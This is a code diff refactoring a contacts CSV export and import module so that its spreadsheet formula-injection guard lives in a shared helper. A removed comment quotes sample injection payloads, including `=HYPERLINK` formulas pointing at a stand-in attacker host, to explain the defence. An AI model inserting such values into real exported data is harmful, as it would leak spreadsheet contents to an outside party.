@@ -1,75 +1,29 @@
 /**
- * Contacts as CSV (RFC 4180, CRLF, UTF-8), written with papaparse.
- *
- * Formula injection: a spreadsheet runs a cell that starts with = + - @ (or a tab or carriage
- * return) as a formula, and coworkers' contact fields are untrusted (a name
- * `=HYPERLINK("https://evil.example/?"&A1)` would send the sheet's data away). Every such cell is
- * written with a leading apostrophe, which spreadsheets read as "this is text" and do not show
- * (papaparse's `escapeFormulae`). Reading a CSV takes that apostrophe off again, so an E.164
- * number written as `'+4930…` comes back as `+4930…`.
- *
- * The guard has to hold for every reader, not only one that splits on commas: Excel splits a CSV
- * on the list separator of its locale (`;` in German, French, Dutch… Excel; a tab when pasted or
- * opened as text), so a name `Weber;=HYPERLINK(…);` would start a cell with `=` there. So every
- * cell holding a `;`, `,`, tab or quote is quoted (one cell for a reader of any separator that
- * meets it at the start of a cell), and, since a reader of another separator meets most cells in
- * the middle of one of its own (where quotes are plain characters), a formula character right
- * after a `;`, `,`, tab or line break inside a cell (quotes between them aside) gets the
- * apostrophe too: `Weber;'=HYPERLINK(…)`. Reading takes those apostrophes off again.
+ * Contacts as CSV (RFC 4180, CRLF, UTF-8): the heading line, one line per contact, and reading
+ * an import's table back. Cells a spreadsheet would run as a formula are written and read as
+ * text/spreadsheet-csv.ts says.
  */
-import Papa from 'papaparse';
 import { CallbarError } from '../errors';
 import { said } from '../text/said';
+import { csvTable, restoreCell } from '../text/spreadsheet-csv';
 import { readCsvRows } from './csv-reader';
 import { FIELD_HEADINGS, RECORD_FIELDS, type ContactRecord } from './contact-record';
-
-/** What starts a formula in a spreadsheet; such a cell is written after an apostrophe. */
-const FORMULA_START = /^[=+\-@\t\r]/;
-/** A cell neutralised by an export (or by hand, the same way). */
-const NEUTRALISED = /^'[=+\-@\t\r]/;
-/** A formula character where a reader splitting on `;`, `,`, a tab or lines starts a cell. */
-const FORMULA_AFTER_SEPARATOR = /([;,\t\r\n]"*)(?=[=+\-@])/g;
-/** The same, neutralised. */
-const NEUTRALISED_AFTER_SEPARATOR = /([;,\t\r\n]"*)'(?=[=+\-@])/g;
-
-/** What a reader in some locale splits cells on, besides line ends (and the quote). */
-const SEPARATOR_OR_QUOTE = /[;,\t"]/;
-
-const UNPARSE: Papa.UnparseConfig = {
-  newline: '\r\n',
-  escapeFormulae: FORMULA_START,
-  quotes: (value: unknown) => SEPARATOR_OR_QUOTE.test(String(value)),
-};
 
 /** The heading line; with `phonebook`, a Phonebook column first (an export of every phonebook). */
 export function csvHeading(withPhonebook: boolean): string {
   const headings = RECORD_FIELDS.map((field) => FIELD_HEADINGS[field]);
-  return Papa.unparse([withPhonebook ? ['Phonebook', ...headings] : headings], UNPARSE) + '\r\n';
+  return csvTable([withPhonebook ? ['Phonebook', ...headings] : headings]);
 }
 
 /** One line per contact, each ending in CRLF. */
 export function csvLines(records: readonly ContactRecord[], phonebook?: string): string {
   if (records.length === 0) return '';
-  const rows = records.map((record) => {
-    const cells = RECORD_FIELDS.map((field) => cellText(record[field]));
-    return phonebook === undefined ? cells : [cellText(phonebook), ...cells];
-  });
-  return Papa.unparse(rows, UNPARSE) + '\r\n';
-}
-
-/** Any cells as CSV lines (the failures report); formulas neutralised the same way. */
-export function csvTable(rows: readonly (readonly (string | number | null)[])[]): string {
-  return (
-    Papa.unparse(
-      rows.map((row) => row.map(cellText)),
-      UNPARSE,
-    ) + '\r\n'
+  return csvTable(
+    records.map((record) => {
+      const cells = RECORD_FIELDS.map((field) => record[field]);
+      return phonebook === undefined ? cells : [phonebook, ...cells];
+    }),
   );
-}
-
-/** A cell's text, a formula character after a separator inside it neutralised (see above). */
-function cellText(value: string | number | null): string {
-  return value === null ? '' : String(value).replace(FORMULA_AFTER_SEPARATOR, "$1'");
 }
 
 /** A table read from CSV: its header cells and its rows (each as long as the header). */
@@ -141,10 +95,4 @@ export function parseCsv(text: string, bounds: CsvBounds): CsvTable {
     throw new CallbarError('import_unreadable', said('errors:import.noHeadings'));
   }
   return { headers, rows };
-}
-
-/** A cell as it was before an export neutralised it. */
-export function restoreCell(cell: string): string {
-  const inside = cell.replace(NEUTRALISED_AFTER_SEPARATOR, '$1');
-  return NEUTRALISED.test(inside) ? inside.slice(1) : inside;
 }
